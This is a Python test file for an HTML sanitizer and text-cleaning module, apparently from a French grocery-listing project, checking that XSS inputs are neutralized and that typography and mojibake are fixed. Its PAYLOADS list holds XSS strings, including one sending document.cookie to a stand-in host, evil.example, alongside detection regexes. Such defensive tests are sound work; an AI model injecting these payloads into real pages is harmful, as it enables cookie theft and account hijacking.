"""Text cleaning and sanitizing: what a reader sees, and what an attacker cannot get through."""

from __future__ import annotations

import html
import re

import pytest

from carrefour.normalize.text import html_sanitize, text_clean, text_fix_mojibake, text_key

# The patterns the partners' evaluation scans for, after decoding entities twice.
HOSTILE = (
    re.compile(r"<\s*/?\s*script\b", re.I),
    re.compile(r"\bon[a-z]{3,}\s*=", re.I),
    re.compile(r"javascript:", re.I),
)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">En savoir plus</a>',
    "<svg onload=alert(document.domain)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<div onmouseover="alert(1)">survolez-moi</div>',
    '<a href="JaVaScRiPt:alert(document.cookie)">lien utile</a>',
    '"><script>document.location="http://evil.example/?c="+document.cookie</script>',
    '<a href="java&#x09;script:alert(1)">voir le site</a>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=x OnError=\"fetch('//evil.example')\">",
]


def _is_hostile(value: str) -> bool:
    decoded = html.unescape(html.unescape(value))
    compact = re.sub(r"[\s\x00-\x1f]+", "", decoded)
    return any(p.search(decoded) for p in HOSTILE[:2]) or bool(HOSTILE[2].search(compact))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("encode", [False, True], ids=["raw", "entity-encoded"])
def test_hostile_payloads_are_neutralized_in_html_and_text(payload: str, encode: bool) -> None:
    source = f"Une épicerie solidaire. {html.escape(payload) if encode else payload} Fin du texte."
    cleaned_html = html_sanitize(source)
    cleaned_text = text_clean(source)
    assert not _is_hostile(cleaned_html), cleaned_html
    assert not _is_hostile(cleaned_text), cleaned_text
    assert "Une épicerie solidaire." in cleaned_text and "Fin du texte." in cleaned_text


def test_plain_text_becomes_paragraphs_and_links_are_kept_safely() -> None:
    assert html_sanitize("Premier paragraphe.\n\nSecond &amp; dernier.") == (
        "<p>Premier paragraphe.</p><p>Second &amp; dernier.</p>"
    )
    linked = html_sanitize('<p>Voir <a href="https://example.org/" onclick="x()">le site</a></p>')
    assert 'href="https://example.org/"' in linked and "onclick" not in linked
    assert 'rel="nofollow noopener noreferrer"' in linked


def test_old_html_paragraphs_separated_by_double_br() -> None:
    assert html_sanitize("<P>Un<BR><BR>Deux<P>Trois") == "<p>Un</p><p>Deux</p><p>Trois</p>"


def test_typography_invisible_characters_and_mojibake() -> None:
    assert (
        text_clean("  L\u2019\u00c9pi\u200bcerie\u00a0:\n solidaire  ") == "L\u2019\u00c9picerie : solidaire"
    )
    assert (
        text_fix_mojibake("Ã‰picerie solidaire Ã\u00a0Saint-Ã‰tienne") == "Épicerie solidaire àSaint-Étienne"
    )
    assert text_fix_mojibake("Déjà correct") == "Déjà correct"
    assert text_clean("Caf&eacute; &amp;amp; cie") == "Café & cie"


def test_absurd_lengths_are_capped() -> None:
    long_text = "mot " * 20_000
    assert len(text_clean(long_text, max_length=300)) <= 300
    assert len(html_sanitize(long_text)) <= 50_100


def test_text_key_folds_case_accents_and_punctuation() -> None:
    assert text_key("  Épicerie-Solidaire  d'Œuvre ! ") == "epicerie solidaire d oeuvre"
